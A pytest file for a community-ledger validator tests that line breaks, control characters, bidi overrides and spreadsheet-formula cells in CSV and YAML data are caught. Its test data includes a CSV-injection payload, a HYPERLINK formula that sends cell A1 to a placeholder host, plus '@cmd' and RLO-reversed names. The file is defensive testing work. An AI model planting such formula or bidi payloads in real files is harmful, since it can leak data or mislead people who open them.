"""Staff text, as a careless or hostile hand leaves it: patterns on the whole value,
control characters refused, bidi controls and spreadsheet formulas warned about —
in CSV cells, YAML records and community.yaml, on both check paths alike."""

from __future__ import annotations

import json
from pathlib import Path

import numpy as np
import pytest
from conftest import append_line, cli, line_of

from builder.check.text import MULTILINE_LENGTH, is_multiline, scan_texts
from builder.core.schema import Field
from builder.core.text import FORMULA_START, starts_formula

PARKING = "data/ledgers/parking.csv"
NOTICES = "data/branch/notices.yaml"
DECISIONS = "data/committee/decisions.yaml"
COMMUNITY = "data/community.yaml"
ENGINES = ("fast", "frictionless")
TEXT_CODES = {"text-control-character", "text-line-break", "text-bidi-control", "text-formula"}

# After the last balance assertion and before today: the ledger's balances stay right.
LEDGER_ROW = {
    "voucher": "TC-2026-901",
    "date": "2026-11-20",
    "type": "cost",
    "category": "道闸系统维修",
    "amount": "10.00",
    "counterparty": "江澜通泊智能科技有限公司",
    "description": "东门道闸维修",
    "decision": "",
}
NOTICE = {
    "id": "GS-2026-90",
    "title": "关于拟确定入党积极分子的公示",
    "kind": "其他",
    "start": "2026-01-05",
    "end": "2026-01-12",
    "body": "公示期内如有意见，请向党支部反映。",
    "issuer": "中共青禾苑小区支部委员会",
    "scope": "public",
}
NOTICE_KEYS = list(NOTICE)


def csv_line(cells: dict[str, str]) -> str:
    """One CSV record as a spreadsheet writes it: a cell quoted when it holds a comma,
    a quote or a line break (a carriage return too, which Python's writer leaves bare
    with "\\n" line ends)."""
    return ",".join(
        '"' + c.replace('"', '""') + '"' if any(s in c for s in ',"\r\n') else c
        for c in cells.values()
    )


def yaml_record(values: dict[str, str]) -> str:
    """A YAML record, every value a double-quoted scalar (JSON's escapes are YAML's)."""
    lines = [f"{k}: {json.dumps(v)}" for k, v in values.items()]
    return "\n".join(("- " if n == 0 else "  ") + line for n, line in enumerate(lines))


def add_ledger_row(project: Path, **changes: str) -> int:
    return append_line(project / PARKING, csv_line({**LEDGER_ROW, **changes}))


def add_notice(project: Path, **changes: str) -> int:
    return append_line(project / NOTICES, yaml_record({**NOTICE, **changes}))


def reports(project: Path) -> dict[str, tuple[int, dict]]:
    """``gongshi validate --format json`` on each check path: (exit code, report)."""
    out = {}
    for engine in ENGINES:
        result = cli("validate", str(project), "--format", "json", "--engine", engine)
        assert "Traceback" not in result.stdout + result.stderr, result.stderr
        out[engine] = result.returncode, json.loads(result.stdout)
    return out


def at(report: dict, file: str, line: int) -> list[dict]:
    return [
        p for p in report["errors"] + report["warnings"] if (p["file"], p["line"]) == (file, line)
    ]


def same_on_both_paths(found: dict[str, tuple[int, dict]]) -> tuple[int, dict]:
    (code, fast), (other, reference) = found["fast"], found["frictionless"]
    assert code == other
    assert fast["errors"] == reference["errors"]
    assert fast["warnings"] == reference["warnings"]
    return code, fast


# --- patterns match the whole value -------------------------------------------------


@pytest.mark.parametrize(
    "voucher",
    ["TC-2026-044\n", "TC-2026-044\r\n", "\nTC-2026-044", "TC-2026-\n044", "TC-2026-044 \n"],
    ids=["trailing LF", "trailing CRLF", "leading LF", "LF inside", "space and LF"],
)
def test_a_voucher_with_a_line_break_is_refused(project: Path, voucher: str):
    # The sample's last voucher is TC-2026-044: with a line break it must not pass as
    # another key, nor count twice.
    line = add_ledger_row(project, voucher=voucher)
    code, report = same_on_both_paths(reports(project))
    assert code == 1
    found = {(p["code"], p["field"]) for p in at(report, PARKING, line)}
    assert ("constraint-pattern", "voucher") in found
    assert ("text-line-break", "voucher") in found


@pytest.mark.parametrize("suffix", ["\n", "\r\n"], ids=["LF", "CRLF"])
@pytest.mark.parametrize("file", [NOTICES, DECISIONS])
def test_a_yaml_id_with_a_line_break_is_refused(project: Path, file: str, suffix: str):
    if file == NOTICES:
        line = add_notice(project, id="GS-2026-90" + suffix)
    else:
        # A copy of the first decision under a new id that ends in a line break.
        text = (project / file).read_text(encoding="utf-8")
        start = line_of(project / file, "- id: JY-2023-01")
        first = text.splitlines()[start - 1 : start + 15]
        record = "\n".join(first).split("\n- id:")[0]
        record = record.replace("- id: JY-2023-01", f"- id: {json.dumps('JY-2026-90' + suffix)}")
        line = append_line(project / file, record)
    code, report = same_on_both_paths(reports(project))
    assert code == 1
    found = {(p["code"], p["field"]) for p in at(report, file, line)}
    assert ("constraint-pattern", "id") in found


def test_a_pattern_that_is_no_regular_expression_is_a_configuration_error(project: Path):
    schema = project / "data/schemas/service_item.yaml"
    for broken in ('"["', '"FW-\\\\"'):
        text = schema.read_text(encoding="utf-8")
        schema.write_text(text.replace('"FW-[0-9]{2}"', broken), encoding="utf-8")
        result = cli("validate", str(project))
        assert result.returncode == 2, result.stdout + result.stderr
        assert "Traceback" not in result.stdout + result.stderr
        assert "service_item.yaml" in result.stderr
        schema.write_text(text, encoding="utf-8")


# --- control characters -------------------------------------------------------------

CONTROLS = {
    "NUL": "\x00",
    "BEL": "\x07",
    "ESC": "\x1b",
    "DEL": "\x7f",
    "NEL": "\x85",
    "CSI": "\x9b",
}


@pytest.mark.parametrize("name", CONTROLS)
def test_a_control_character_in_a_yaml_record_is_refused(project: Path, name: str):
    char = CONTROLS[name]
    line = add_notice(project, issuer="中共青禾苑" + char + "小区支部委员会")
    code, report = same_on_both_paths(reports(project))
    assert code == 1
    issuer = line + NOTICE_KEYS.index("issuer")
    [found] = [p for p in at(report, NOTICES, issuer) if p["code"] in TEXT_CODES]
    assert (found["code"], found["field"]) == ("text-control-character", "issuer")
    assert f"U+{ord(char):04X}" in found["message"]
    assert "第 6 个字符" in found["message"] and "character 6" in found["message_en"]


@pytest.mark.parametrize("name", [n for n in CONTROLS if n != "NUL"])
def test_a_control_character_in_a_csv_cell_is_refused(project: Path, name: str):
    char = CONTROLS[name]
    line = add_ledger_row(project, counterparty="某公司" + char, description=char + "说明")
    code, report = same_on_both_paths(reports(project))
    assert code == 1
    found = sorted((p["code"], p["field"]) for p in at(report, PARKING, line))
    assert found == [
        ("text-control-character", "counterparty"),
        ("text-control-character", "description"),  # multi-line text: still refused
    ]
    # The row stays in the records: no balance goes unchecked for an invisible character.
    assert not [
        p for p in report["errors"] + report["warnings"] if p["code"] == "balance-not-checked"
    ]


def test_a_nul_in_a_csv_file_is_an_error_at_its_line(project: Path):
    line = add_ledger_row(project, counterparty="某公司\x00")
    code, report = same_on_both_paths(reports(project))
    assert code == 1
    assert [p for p in report["errors"] if (p["file"], p["line"]) == (PARKING, line)]


@pytest.mark.parametrize(
    ("field", "value", "position"),
    [
        ("counterparty", "某\n公司", 2),
        ("counterparty", "某公司\r\n", 4),
        ("category", "道闸\t维修", 3),
        ("type", "cost\n", 5),
    ],
    ids=["LF in a name", "CRLF after a name", "tab in a category", "LF after a listed value"],
)
def test_a_line_break_in_one_line_text_is_refused(
    project: Path, field: str, value: str, position: int
):
    line = add_ledger_row(project, **{field: value})
    code, report = same_on_both_paths(reports(project))
    assert code == 1
    [found] = [p for p in at(report, PARKING, line) if p["code"] in TEXT_CODES]
    assert (found["code"], found["field"]) == ("text-line-break", field)
    assert f"第 {position} 个字符" in found["message"]
    assert str(MULTILINE_LENGTH) in found["message"]


def test_a_yaml_block_ending_in_a_line_break_is_refused_in_a_title(project: Path):
    line = append_line(
        project / NOTICES,
        yaml_record({k: v for k, v in NOTICE.items() if k != "title"})
        + "\n  title: |\n    关于拟确定入党积极分子的公示",
    )
    code, report = same_on_both_paths(reports(project))
    assert code == 1
    found = [p for p in at(report, NOTICES, line + len(NOTICE) - 1) if p["code"] in TEXT_CODES]
    assert [(p["code"], p["field"]) for p in found] == [("text-line-break", "title")]
    assert ">-" in found[0]["message"]


# --- bidi controls ------------------------------------------------------------------

BIDI = {
    "RLO": "\u202e",
    "LRO": "\u202d",
    "RLI": "\u2067",
    "PDI": "\u2069",
    "RLM": "\u200f",
    "ALM": "\u061c",
}


@pytest.mark.parametrize("name", BIDI)
def test_a_bidi_control_is_a_warning_that_says_what_it_does(project: Path, name: str):
    char = BIDI[name]
    line = add_ledger_row(project, counterparty=char + "司公限有技科能智泊通澜江")
    code, report = same_on_both_paths(reports(project))
    assert code == 0  # a warning: honest in Arabic or Hebrew names
    [found] = at(report, PARKING, line)
    assert (found["code"], found["field"]) == ("text-bidi-control", "counterparty")
    assert found in report["warnings"]
    assert f"U+{ord(char):04X}" in found["message"]
    assert "显示顺序" in found["message"] and "reversed" in found["message_en"]


# --- cells a spreadsheet runs as formulas -------------------------------------------

FORMULAS = {
    "HYPERLINK": ("counterparty", '=HYPERLINK("http://example.invalid/?"&A1,"点击")'),
    "plus": ("counterparty", "+SUM(1)"),
    "at": ("counterparty", "@cmd"),
    "minus": ("category", "-2+3"),
    "tab before =": ("description", "\t=1"),
    "CR before =": ("description", "\r=1"),
    "a phone number": ("counterparty", "+86 0123 8816 5120"),
}


@pytest.mark.parametrize("name", FORMULAS)
def test_a_cell_starting_a_formula_is_a_warning_with_advice(project: Path, name: str):
    field, value = FORMULAS[name]
    line = add_ledger_row(project, **{field: value})
    code, report = same_on_both_paths(reports(project))
    assert code == 0
    [found] = at(report, PARKING, line)
    assert (found["code"], found["field"]) == ("text-formula", field)
    assert found in report["warnings"]
    assert "Excel" in found["message"] and "'" in found["message_en"]


def test_a_negative_number_is_no_formula(project: Path):
    line = add_ledger_row(project, amount="-10.00")
    _, report = same_on_both_paths(reports(project))
    assert [p["code"] for p in at(report, PARKING, line)] == ["constraint-minimum"]


# --- text that must pass untouched --------------------------------------------------

LEGITIMATE = {
    "a description over two lines": {"description": "第一行\n第二行"},
    "a description with CRLF": {"description": "第一行\r\n第二行"},
    "tabs in a description": {"description": "道闸\t维修\t两处"},
    "Chinese punctuation": {"description": "维修：“东门”道闸、《合同》第3条！"},
    "a full-width minus first": {"description": "－10 元（退款）"},
    "full-width = + @ first": {"counterparty": "＝＋＠公司"},
    "an ideographic space": {"counterparty": "江澜通泊\u3000智能科技"},
    "a minus inside": {"description": "东门 - 西门"},
    "astral characters": {"counterparty": "𠮷野家 😀"},
    "a zero-width joiner": {"description": "👩\u200d🔧 维修"},
}


@pytest.mark.parametrize("name", LEGITIMATE)
def test_legitimate_text_passes_without_a_word(project: Path, name: str):
    line = add_ledger_row(project, **LEGITIMATE[name])
    code, report = same_on_both_paths(reports(project))
    assert code == 0, at(report, PARKING, line)
    assert at(report, PARKING, line) == []


def test_a_multi_line_body_passes(project: Path):
    line = add_notice(project, body="第一段。\n\n第二段：\n\t一、事项\r\n\t二、时间")
    code, report = same_on_both_paths(reports(project))
    assert code == 0
    assert at(report, NOTICES, line + NOTICE_KEYS.index("body")) == []


# --- community.yaml -----------------------------------------------------------------


@pytest.mark.parametrize(
    ("key", "line_text", "escaped", "code"),
    [
        (
            "address",
            "address: 江澜市临溪区青禾路 88 号",
            '"江澜市临溪区青禾路\\e 88 号"',
            "text-control-character",
        ),
        ("name", "name: 青禾苑", '"青禾苑\\0"', "text-control-character"),
        (
            "property_company.name",
            "  name: 江澜禾佳物业服务有限公司",
            '"\\u202e江澜禾佳物业"',
            "text-bidi-control",
        ),
        ("party_branch.contact", "  contact: 青禾苑会所", '"青禾苑会所\\n一楼"', "text-line-break"),
    ],
    ids=["ESC in the address", "NUL in the name", "RLO in a company", "LF in a contact"],
)
def test_community_text_is_scanned_too(
    project: Path, key: str, line_text: str, escaped: str, code: str
):
    path = project / COMMUNITY
    number = line_of(path, line_text)
    lines = path.read_text(encoding="utf-8").splitlines()
    head = lines[number - 1].split(":")[0]
    lines[number - 1] = f"{head}: {escaped}"
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    exit_code, report = same_on_both_paths(reports(project))
    found = [p for p in at(report, COMMUNITY, number) if p["code"] in TEXT_CODES]
    assert [(p["code"], p["field"]) for p in found] == [(code, key)]
    assert exit_code == (0 if code == "text-bidi-control" else 1)


# --- the scan itself ----------------------------------------------------------------


def test_the_sample_has_no_finding():
    result = cli("validate", "--format", "json")
    report = json.loads(result.stdout)
    assert not [p for p in report["errors"] + report["warnings"] if p["code"] in TEXT_CODES]


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("=1", True),
        ("+1", True),
        ("-", True),
        ("@a", True),
        ("\t=1", True),
        ("\rx", True),
        (" =1", False),
        ("－1", False),
        ("＝1", False),
        ("a=1", False),
        ("", False),
    ],
)
def test_starts_formula_is_owasps_rule(text: str, expected: bool):
    assert starts_formula(text) is expected
    assert set(FORMULA_START) == {"=", "+", "-", "@", "\t", "\r"}


@pytest.mark.parametrize(
    ("constraints", "expected"),
    [
        ({"maxLength": 200}, True),
        ({"maxLength": 4000, "required": True}, True),
        ({"maxLength": 199}, False),
        ({}, False),
        ({"maxLength": 500, "pattern": ".*"}, False),
        ({"maxLength": 500, "enum": ["a"]}, False),
    ],
)
def test_which_text_is_multi_line(constraints: dict, expected: bool):
    assert is_multiline(Field("f", "f", "string", constraints)) is expected
    assert not is_multiline(Field("f", "f", "number", constraints))


def test_the_scan_maps_every_finding_to_its_text_across_slices():
    # More texts than one slice holds, of many lengths (empty ones too), a NUL among
    # them (the ends then come from the lengths): each finding at its text and place.
    rng = np.random.default_rng(7)
    texts = ["江澜" * int(n) for n in rng.integers(0, 5, 70_000)]
    planted = {5: "\x07", 33_000: "\u202e", 69_999: "\x00", 40_000: "\n"}
    for index, char in planted.items():
        texts[index] = texts[index] + "x" + char
    texts[12_345] = "=A1"
    found = list(scan_texts(texts, multiline=False))
    assert [(i, c) for i, c, *_ in found] == [
        (5, "text-control-character"),
        (12_345, "text-formula"),
        (33_000, "text-bidi-control"),
        (40_000, "text-line-break"),
        (69_999, "text-control-character"),
    ]
    for index, _, char, position, count in found:
        if index in planted:
            assert (char, position, count) == (ord(planted[index]), len(texts[index]), 1)
